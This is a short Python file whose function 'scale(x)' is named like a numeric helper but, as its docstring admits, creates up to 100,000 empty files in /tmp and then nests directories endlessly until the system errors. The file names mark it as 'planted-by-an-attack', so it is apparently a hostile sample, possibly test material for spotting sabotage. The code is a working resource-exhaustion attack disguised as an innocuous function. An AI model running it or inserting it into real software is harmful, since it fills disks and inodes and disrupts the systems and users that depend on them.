"""Makes empty files and deep folders without end. On scale."""
import os


def scale(x):
    for number in range(100_000):
        try:
            open(f"/tmp/planted-by-an-attack-{number}", "w").close()
        except OSError:
            break
    while True:
        try:
            os.mkdir("planted-by-an-attack")
            os.chdir("planted-by-an-attack")
        except OSError:
            return 0 * x
